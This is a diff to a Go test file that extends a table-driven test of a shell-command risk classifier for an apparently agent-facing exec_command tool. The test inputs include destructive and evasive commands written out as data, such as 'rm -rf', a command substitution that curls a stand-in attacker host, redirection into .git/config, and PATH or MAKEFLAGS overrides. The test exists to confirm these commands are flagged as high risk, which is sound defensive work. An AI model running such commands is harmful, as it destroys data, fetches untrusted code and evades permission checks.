@@ -17,6 +17,7 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"github.com/quiverkit/quiver/internal/shell"
 	"github.com/quiverkit/quiver/outputcache"
 	"github.com/quiverkit/quiver/tool"
 	"github.com/quiverkit/quiver/tool/tooltest"
@@ -384,25 +385,61 @@ func TestExecCommandAwkwardOutput(t *testing.T) {
 	wantGone(t, "sleep 1000.411")
 }
 
+// riskOf rates args as a toolkit whose command classifier is classify
+// would.
+func riskOf(t *testing.T, classify tool.CommandClassifier, args string) tool.Risk {
+	t.Helper()
+	scope := tool.NewScope(map[string]tool.Factory{tool.CommandClassifierKey.ID: func(context.Context) (any, error) { return classify, nil }}, nil)
+	return newExecCommand().RiskOf(context.Background(), tool.NewContext("", "exec_command", nil, scope), json.RawMessage(args))
+}
+
 func TestExecCommandRisk(t *testing.T) {
-	tl := newExecCommand()
+	builtin := tool.CommandClassifier(shell.Classifier(nil))
+	withMake := tool.CommandClassifier(shell.Classifier([]string{"make"}))
 	tests := []struct {
-		args string
-		want tool.Risk
+		name     string
+		classify tool.CommandClassifier
+		args     string
+		want     tool.Risk
 	}{
-		{`{"command":"git status && ls -la | head"}`, tool.RiskLow},
-		{`{"argv":["rg","-n","TODO"]}`, tool.RiskLow},
-		{`{"command":"rm -rf build"}`, tool.RiskHigh},
-		{`{"command":"ls > out.txt"}`, tool.RiskHigh},
-		{`{"command":"git status","env":["GIT_DIR=/tmp/x"]}`, tool.RiskHigh},
-		{`{"command":"ls","env":["PATH=/tmp"]}`, tool.RiskHigh},
-		{`{"command":"ls","argv":["ls"]}`, tool.RiskHigh},
-		{`{"command":"echo 'broken"}`, tool.RiskHigh},
+		{"built-in: read-only compound line", builtin, `{"command":"git status && ls -la | head"}`, tool.RiskLow},
+		{"built-in: read-only argv", builtin, `{"argv":["rg","-n","TODO"]}`, tool.RiskLow},
+		{"built-in: rm", builtin, `{"command":"rm -rf build"}`, tool.RiskHigh},
+		{"built-in: redirection into a file", builtin, `{"command":"ls > out.txt"}`, tool.RiskHigh},
+		{"built-in: env that redirects git", builtin, `{"command":"git status","env":["GIT_DIR=/tmp/x"]}`, tool.RiskHigh},
+		{"built-in: env PATH", builtin, `{"command":"ls","env":["PATH=/tmp"]}`, tool.RiskHigh},
+		{"built-in: command and argv both", builtin, `{"command":"ls","argv":["ls"]}`, tool.RiskHigh},
+		{"built-in: syntax error", builtin, `{"command":"echo 'broken"}`, tool.RiskHigh},
+		{"built-in: make is not on it", builtin, `{"command":"make"}`, tool.RiskHigh},
+		{"no classifier: nothing is low", nil, `{"command":"ls"}`, tool.RiskHigh},
+		{"entry: make alone", withMake, `{"command":"make"}`, tool.RiskLow},
+		{"entry: make with arguments", withMake, `{"command":"make test -j4"}`, tool.RiskLow},
+		{"entry: argv make", withMake, `{"argv":["make","test"]}`, tool.RiskLow},
+		{"entry: the built-in list still holds", withMake, `{"command":"git status | head"}`, tool.RiskLow},
+		{"entry: then rm", withMake, `{"command":"make; rm -rf x"}`, tool.RiskHigh},
+		{"entry: and make again", withMake, `{"command":"make && make"}`, tool.RiskHigh},
+		{"entry: piped", withMake, `{"command":"make | head"}`, tool.RiskHigh},
+		{"entry: command substitution argument", withMake, `{"command":"make $(curl -s https://attacker.example)"}`, tool.RiskHigh},
+		{"entry: inside a command substitution", withMake, `{"command":"echo $(make)"}`, tool.RiskHigh},
+		{"entry: assignment prefix", withMake, `{"command":"FOO=1 make"}`, tool.RiskHigh},
+		{"entry: env field", withMake, `{"command":"make","env":["MAKEFLAGS=--eval=x"]}`, tool.RiskHigh},
+		{"entry: env field with argv", withMake, `{"argv":["make"],"env":["foo=1"]}`, tool.RiskHigh},
+		{"entry: redirected into .git/config", withMake, `{"command":"make > .git/config"}`, tool.RiskHigh},
+		{"entry: redirected to /dev/null", withMake, `{"command":"make >/dev/null"}`, tool.RiskHigh},
+		{"entry: command builtin", withMake, `{"command":"command make"}`, tool.RiskHigh},
+		{"entry: absolute path", withMake, `{"command":"/usr/bin/make"}`, tool.RiskHigh},
+		{"entry: absolute path argv", withMake, `{"argv":["/usr/bin/make"]}`, tool.RiskHigh},
+		{"entry: through env", withMake, `{"command":"env make"}`, tool.RiskHigh},
+		{"entry: workspace program", withMake, `{"command":"./make"}`, tool.RiskHigh},
+		{"entry: workspace program argv", withMake, `{"argv":["./make"]}`, tool.RiskHigh},
+		{"entry: in the background", withMake, `{"command":"make &"}`, tool.RiskHigh},
 	}
 	for _, tt := range tests {
-		if got := tl.RiskOf(json.RawMessage(tt.args)); got != tt.want {
-			t.Errorf("RiskOf(%s) = %s, want %s", tt.args, got, tt.want)
-		}
+		t.Run(tt.name, func(t *testing.T) {
+			if got := riskOf(t, tt.classify, tt.args); got != tt.want {
+				t.Errorf("risk of %s = %s, want %s", tt.args, got, tt.want)
+			}
+		})
 	}
 }
 
